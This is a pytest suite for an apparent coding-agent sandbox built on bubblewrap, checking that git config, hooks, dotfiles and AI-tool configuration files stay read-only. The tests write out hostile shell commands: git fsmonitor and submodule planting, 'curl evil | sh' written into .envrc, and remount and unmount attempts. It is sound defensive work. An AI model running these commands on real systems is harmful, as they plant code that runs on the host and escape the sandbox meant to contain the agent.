"""BubblewrapSandbox: protected paths inside writable roots stay read-only; real bwrap and git."""

from __future__ import annotations

import os
import shutil
import subprocess
from typing import TYPE_CHECKING

import pytest
import trio

from prism.coding.security import (
    BubblewrapSandbox,
    create_coding_approval_policy,
    create_sandbox_shell_operations,
)
from prism.coding.tools import ShellExit
from prism.core import ConfigurationError, ExecutionAction, ExecutionDecision

if TYPE_CHECKING:
    from collections.abc import Awaitable, Callable
    from pathlib import Path

    from prism.coding.tools import ShellExit

    RunShell = Callable[..., Awaitable[tuple[ShellExit, str]]]


def _git_repo(root: Path) -> None:
    subprocess.run(["git", "init", "-q", str(root)], check=True)


def _fsmonitor_attack(marker: Path) -> str:
    """Set core.fsmonitor, three ways; the host's next ``git status`` would run it."""
    return (
        f"git config core.fsmonitor 'touch {marker}'; "
        f"printf '[core]\\n\\tfsmonitor = touch {marker}\\n' >> .git/config; "
        "mv .git .git-old && mkdir .git && cp -r .git-old/. .git/ && "
        f"printf '[core]\\n\\tfsmonitor = touch {marker}\\n' >> .git/config; "
        "echo attempted"
    )


async def _host_git_status(root: Path) -> None:
    await trio.run_process(["git", "status", "--short"], cwd=root, capture_stdout=True)


@pytest.mark.git
async def test_the_fsmonitor_attack_works_without_the_sandbox(root: Path, tmp_path: Path) -> None:
    _git_repo(root)
    marker = tmp_path / "pwned"
    await trio.run_process(["/bin/sh", "-c", _fsmonitor_attack(marker)], cwd=root)
    await _host_git_status(root)
    assert marker.exists()


@pytest.mark.bwrap
@pytest.mark.git
async def test_sandboxed_command_cannot_plant_an_fsmonitor_for_the_host_git(
    root: Path,
    tmp_path: Path,
    run_shell: RunShell,
) -> None:
    _git_repo(root)
    config = (root / ".git" / "config").read_bytes()
    marker = tmp_path / "pwned"
    ops = create_sandbox_shell_operations(BubblewrapSandbox([str(root)]))
    _, output = await run_shell(ops, _fsmonitor_attack(marker), root)
    assert "attempted" in output
    assert (root / ".git" / "config").read_bytes() == config
    await _host_git_status(root)
    assert not marker.exists()


@pytest.mark.bwrap
@pytest.mark.git
async def test_sandboxed_command_cannot_point_git_at_another_config(
    root: Path,
    tmp_path: Path,
    run_shell: RunShell,
) -> None:
    # git reads the repository config from $GIT_DIR/commondir when that file exists
    _git_repo(root)
    marker = tmp_path / "pwned"
    ops = create_sandbox_shell_operations(BubblewrapSandbox([str(root)]))
    command = (
        "cp -r .git evil && "
        f"printf '[core]\\n\\tfsmonitor = touch {marker}\\n' >> evil/config; "
        "echo ../evil > .git/commondir; echo attempted"
    )
    _, output = await run_shell(ops, command, root)
    assert "attempted" in output
    assert (root / "evil" / "config").exists()
    assert not (root / ".git" / "commondir").exists()
    await _host_git_status(root)
    assert not marker.exists()


@pytest.mark.bwrap
@pytest.mark.git
async def test_sandboxed_command_cannot_create_a_git_hook(root: Path, run_shell: RunShell) -> None:
    _git_repo(root)
    ops = create_sandbox_shell_operations(BubblewrapSandbox([str(root)]))
    _, output = await run_shell(ops, "echo 'touch x' > .git/hooks/pre-commit; echo attempted", root)
    assert "attempted" in output
    assert not (root / ".git" / "hooks" / "pre-commit").exists()


@pytest.mark.bwrap
@pytest.mark.git
@pytest.mark.parametrize("exists", [True, False])
async def test_hooks_directory_named_by_core_hooks_path_is_protected(
    root: Path,
    exists: bool,
    run_shell: RunShell,
) -> None:
    _git_repo(root)
    await trio.run_process(["git", "-C", str(root), "config", "core.hooksPath", ".githooks"])
    if exists:
        (root / ".githooks").mkdir()
    ops = create_sandbox_shell_operations(BubblewrapSandbox([str(root)]))
    command = "mkdir -p .githooks; echo 'touch x' > .githooks/pre-commit; echo attempted"
    _, output = await run_shell(ops, command, root)
    assert "attempted" in output
    assert not (root / ".githooks" / "pre-commit").exists()
    assert (root / ".githooks").exists() == exists


@pytest.mark.bwrap
@pytest.mark.git
async def test_missing_hooks_directory_cannot_be_created(root: Path, run_shell: RunShell) -> None:
    _git_repo(root)
    shutil.rmtree(root / ".git" / "hooks")
    ops = create_sandbox_shell_operations(BubblewrapSandbox([str(root)]))
    _, output = await run_shell(
        ops, "mkdir -p .git/hooks && echo x > .git/hooks/pre-commit; echo attempted", root
    )
    assert "attempted" in output
    assert not (root / ".git" / "hooks").exists()


@pytest.mark.bwrap
@pytest.mark.git
async def test_git_still_commits_inside_the_sandbox(root: Path, run_shell: RunShell) -> None:
    _git_repo(root)
    ops = create_sandbox_shell_operations(BubblewrapSandbox([str(root)]))
    command = (
        "echo hello > a.txt && git add a.txt && "
        "git -c user.name=t -c user.email=t@example.invalid commit -qm one && git log --oneline"
    )
    result, output = await run_shell(ops, command, root)
    assert result.exit_code == 0, output
    assert "one" in output


@pytest.mark.bwrap
@pytest.mark.git
async def test_git_of_a_parent_repository_works_but_no_nested_repository_appears(
    root: Path,
    tmp_path: Path,
    run_shell: RunShell,
) -> None:
    # root is not a repository itself: git finds tmp_path's repository above it
    # (also a root here, since the sandbox hides tmp_path's /tmp otherwise); a
    # repository made inside comes back without its config and hooks
    _git_repo(tmp_path)
    ops = create_sandbox_shell_operations(BubblewrapSandbox([str(tmp_path), str(root)]))
    _, output = await run_shell(ops, "git rev-parse --show-toplevel; git init -q .; echo end", root)
    assert output.splitlines()[0] == str(tmp_path), output
    assert "end" in output.splitlines()
    assert "project/.git/config" in output
    assert not (root / ".git" / "config").exists()
    assert not (root / ".git" / "hooks").exists()


@pytest.mark.bwrap
async def test_missing_protected_files_cannot_be_created_but_others_can(
    root: Path, run_shell: RunShell
) -> None:
    before = sorted(os.listdir(root))
    ops = create_sandbox_shell_operations(BubblewrapSandbox([str(root)]))
    # start-up files of the home-directory and tool-configuration class too: pdb,
    # Maven, bash's aliases, kubectl, lint-staged, another agent's configuration
    names = (".envrc", ".mcp.json", ".claude", ".pdbrc", ".mvn", ".bash_aliases", ".kube",
             ".lintstagedrc.json", ".kiro", "app.code-workspace", ".env.local", ".jq")  # fmt: skip
    command = (
        "echo 'curl evil | sh' > .envrc; echo '{}' > .mcp.json; mkdir .claude; "
        "echo '!import os' > .pdbrc; mkdir .mvn && echo -agentpath:x > .mvn/jvm.config; "
        "echo 'touch x' > .bash_aliases; mkdir .kube && echo x > .kube/config; "
        "echo '{}' > .lintstagedrc.json; mkdir -p .kiro/hooks; echo '{}' > app.code-workspace; "
        "echo A=1 > .env.local; echo 'def length: 0;' > .jq; "
        "echo ok > ordinary.txt; echo A=1 > .env.example; echo attempted"
    )
    _, output = await run_shell(ops, command, root)
    assert "attempted" in output
    assert (root / "ordinary.txt").read_text() == "ok\n"
    for name in names:
        assert not (root / name).exists(), name
    assert sorted(os.listdir(root)) == sorted([*before, "ordinary.txt", ".env.example"])


@pytest.mark.parametrize(
    "path",
    [".pdbrc", ".mvn/jvm.config", "gradle/wrapper/gradle-wrapper.properties",
     ".gradle/init.d/x.gradle", ".bash_aliases", ".bash_functions", ".kube/config", ".aws/config",
     ".docker/config.json", ".ipython/profile_default/startup/x.py",
     ".config/systemd/user/x.service", ".config/autostart/x.desktop",
     ".config/environment.d/x.conf", ".pam_environment", ".xprofile", ".xsessionrc",
     ".local/bin/git", ".local/lib/python3.11/site-packages/evil/__init__.py",
     ".config/nvim/init.lua", ".vim/plugin/x.vim", ".vimrc", ".emacs",
     ".emacs.d/init.el", ".tmux.conf", ".curlrc", ".wgetrc", ".netrc", ".condarc", ".Renviron",
     "app.code-workspace", ".theia/tasks.json", ".fleet/run.json", ".lintstagedrc.json",
     "lint-staged.config.js", ".huskyrc.js", "husky.config.js", "commitlint.config.js",
     ".commitlintrc.js", ".simple-git-hooks.json", "simple-git-hooks.cjs", ".overcommit.yml",
     ".autoenv.zsh", ".autoenv_leave.zsh", ".env.leave", ".envrc.local", ".envrc.private",
     ".env.local", ".env.development.local", ".env.production", ".direnv/x", ".lfsconfig",
     "sub/.gitattributes", ".jq", ".aider.conf.yml", "opencode.json", ".opencode/x.json",
     ".kiro/hooks/x.kiro.hook", ".continue/config.json", ".roo/mcp.json", ".qwen/settings.json",
     ".amazonq/mcp.json", "crush.json", ".crush.json", ".goose/config.yaml",
     ".kilocode/mcp.json", ".junie/mcp.json", ".trae/mcp.json", ".augment/settings.json"],
)  # fmt: skip
def test_start_up_and_tool_configuration_files_ask_the_write_tool(root: Path, path: str) -> None:
    policy = create_coding_approval_policy(roots=[str(root)])
    decision = policy.check(ExecutionAction(kind="write", operation="write", paths=(path,)))
    assert isinstance(decision, ExecutionDecision)
    assert not decision.allowed, path
    assert "protected path" in (decision.reason or ""), path


@pytest.mark.parametrize(
    "path",
    [".env.example", ".env.sample", "notes.vim.txt", "src/local/bin.py",
     "gradle/libs.versions.toml", "docs/aws.md", "lint.config.js"],
)  # fmt: skip
def test_ordinary_files_beside_them_stay_writable(root: Path, path: str) -> None:
    policy = create_coding_approval_policy(roots=[str(root)])
    decision = policy.check(ExecutionAction(kind="write", operation="write", paths=(path,)))
    assert isinstance(decision, ExecutionDecision)
    assert decision.allowed, path


@pytest.mark.bwrap
async def test_existing_protected_file_is_read_only(root: Path, run_shell: RunShell) -> None:
    (root / ".envrc").write_text("export A=1\n")
    ops = create_sandbox_shell_operations(BubblewrapSandbox([str(root)]))
    _, output = await run_shell(
        ops, "echo evil >> .envrc; rm -f .envrc; mv .envrc x; echo attempted", root
    )
    assert "attempted" in output
    assert (root / ".envrc").read_text() == "export A=1\n"


@pytest.mark.bwrap
async def test_protected_paths_option_adds_entries(root: Path, run_shell: RunShell) -> None:
    (root / "Makefile").write_text("all:\n")
    sandbox = BubblewrapSandbox([str(root)], protected_paths=["Makefile", "deploy/keys"])
    ops = create_sandbox_shell_operations(sandbox)
    # a new link on the way to a two-part entry makes what it points at that entry
    # (`.cargo -> c` with `c/config.toml` is the host's `.cargo/config.toml`), at any depth
    links = "mkdir -p c/keys d && echo x > c/config.toml && ln -s c .cargo && ln -s ../c d/deploy"
    _, output = await run_shell(
        ops, f"echo evil >> Makefile; mkdir -p deploy/keys; {links}; echo attempted", root
    )
    assert "attempted" in output
    assert (root / "Makefile").read_text() == "all:\n"
    assert not (root / "deploy" / "keys").exists()
    assert "(protected paths): .cargo, Makefile, d/deploy, deploy/" in output, output
    assert not (root / ".cargo").is_symlink()
    assert not (root / "d" / "deploy").is_symlink()
    assert (root / "c" / "config.toml").exists()  # harmless where it is


@pytest.mark.bwrap
@pytest.mark.parametrize("target", ["missing", "present"])
async def test_a_protected_name_that_is_a_link_keeps_its_target(
    root: Path, run_shell: RunShell, target: str
) -> None:
    if target == "present":
        (root / target).write_text("export A=1\n")
    (root / ".envrc").symlink_to(root / target)
    ops = create_sandbox_shell_operations(BubblewrapSandbox([str(root)]))
    _, output = await run_shell(ops, "echo 'curl x | sh' > .envrc; echo attempted", root)
    assert "attempted" in output
    assert target in output
    if target == "present":
        assert (root / target).read_text() == "export A=1\n"
    else:
        assert not (root / target).exists()


@pytest.mark.bwrap
async def test_a_git_file_at_the_top_of_a_root_is_read_only(
    root: Path, run_shell: RunShell
) -> None:
    (root / ".git").write_text("gitdir: elsewhere\n")
    ops = create_sandbox_shell_operations(BubblewrapSandbox([str(root)]))
    _, output = await run_shell(ops, "echo 'gitdir: evil' > .git; rm -f .git; echo end", root)
    assert "end" in output
    assert (root / ".git").read_text() == "gitdir: elsewhere\n"


@pytest.mark.parametrize("value", ["Makefile", ["/abs"], ["../up"], [""]])
def test_bad_protected_paths_raise_naming_the_option(value: object) -> None:
    with pytest.raises(ConfigurationError, match="protected_paths"):
        BubblewrapSandbox([], protected_paths=value)  # type: ignore[arg-type]


@pytest.mark.bwrap
async def test_sandboxed_root_cannot_undo_the_read_only_mounts(
    root: Path, run_shell: RunShell
) -> None:
    # As root, bwrap used to keep every capability in its user namespace: the
    # command could remount / read-write and unmount a protected path.
    (root / ".envrc").write_text("safe\n")
    target = f"/var/tmp/prism-remount-test-{os.getpid()}"
    ops = create_sandbox_shell_operations(BubblewrapSandbox([str(root)]))
    command = (
        f"umount {root / '.envrc'}; echo evil >> .envrc; "
        f"mount -o remount,bind,rw /; echo x > {target}; "
        "grep CapEff /proc/self/status"
    )
    _, output = await run_shell(ops, command, root)
    assert "CapEff:\t0000000000000000" in output
    assert (root / ".envrc").read_text() == "safe\n"
    assert not await trio.Path(target).exists()


@pytest.mark.bwrap
async def test_sandboxed_root_cannot_open_a_global_sysctl_for_writing(
    root: Path, run_shell: RunShell
) -> None:
    # Opening without writing changes nothing, whatever the outcome.
    ops = create_sandbox_shell_operations(BubblewrapSandbox([str(root)]))
    command = "(exec 3>>/proc/sys/vm/swappiness) && echo OPENED; echo end"
    _, output = await run_shell(ops, command, root)
    assert "OPENED" not in output
    assert output.strip().endswith("end")


async def _git(cwd: Path, *args: str) -> None:
    ident = ["-c", "user.name=t", "-c", "user.email=t@example.invalid"]
    await trio.run_process(["git", *ident, "-c", "protocol.file.allow=always", *args], cwd=cwd)


@pytest.mark.bwrap
@pytest.mark.git
async def test_existing_submodule_cannot_be_repointed_at_a_planted_git_directory(
    root: Path,
    tmp_path: Path,
    run_shell: RunShell,
) -> None:
    library = tmp_path / "library"
    await trio.run_process(["git", "init", "-q", str(library)])
    await _git(library, "commit", "-q", "--allow-empty", "-m", "lib")
    _git_repo(root)
    await _git(root, "submodule", "add", "-q", str(library), "lib")
    await _git(root, "commit", "-q", "-m", "add lib")
    marker = tmp_path / "pwned"
    fsmonitor = f"printf '[core]\\n\\tfsmonitor = touch {marker}\\n'"
    command = (
        f"cp -r .git/modules/lib evil && {fsmonitor} >> evil/config; "
        "echo 'gitdir: ../evil' > lib/.git; "
        f"{fsmonitor} >> .git/modules/lib/config; echo attempted"
    )
    ops = create_sandbox_shell_operations(BubblewrapSandbox([str(root)]))
    _, output = await run_shell(ops, command, root)
    assert "attempted" in output
    assert (root / "evil" / "config").exists()
    assert "evil" not in (root / "lib" / ".git").read_text()
    await _host_git_status(root)
    assert not marker.exists()


@pytest.mark.bwrap
@pytest.mark.git
async def test_embedded_submodule_git_config_is_read_only(
    root: Path, tmp_path: Path, run_shell: RunShell
) -> None:
    _git_repo(root)
    await trio.run_process(["git", "init", "-q", str(root / "sub")])
    await _git(root / "sub", "commit", "-q", "--allow-empty", "-m", "sub")
    await _git(root, "add", "sub")
    marker = tmp_path / "pwned"
    command = (
        f"printf '[core]\\n\\tfsmonitor = touch {marker}\\n' >> sub/.git/config; "
        "echo x > sub/.git/hooks/pre-commit; echo attempted"
    )
    ops = create_sandbox_shell_operations(BubblewrapSandbox([str(root)]))
    _, output = await run_shell(ops, command, root)
    assert "attempted" in output
    assert not (root / "sub" / ".git" / "hooks" / "pre-commit").exists()
    await _host_git_status(root)
    assert not marker.exists()


@pytest.mark.bwrap
@pytest.mark.git
async def test_sandboxed_command_cannot_plant_a_submodule_with_an_fsmonitor(
    root: Path,
    tmp_path: Path,
    run_shell: RunShell,
) -> None:
    _git_repo(root)
    ident = "-c user.name=t -c user.email=t@example.invalid"
    await trio.run_process(
        ["git", *ident.split(), "commit", "-q", "--allow-empty", "-m", "0"], cwd=root
    )
    marker = tmp_path / "pwned"
    command = (
        f"git init -q sub && git -C sub {ident} commit -q --allow-empty -m x && "
        "mv sub/.git evil && echo 'gitdir: ../evil' > sub/.git && "
        f"printf '[core]\\n\\tfsmonitor = touch {marker}\\n' >> evil/config && "
        "git update-index --add --cacheinfo 160000,$(git -C sub rev-parse HEAD),sub"
    )
    ops = create_sandbox_shell_operations(BubblewrapSandbox([str(root)]))
    result, output = await run_shell(ops, command, root)
    assert result.exit_code == 0, output
    assert "registers a new submodule (sub)" in output
    await _host_git_status(root)
    assert not marker.exists()
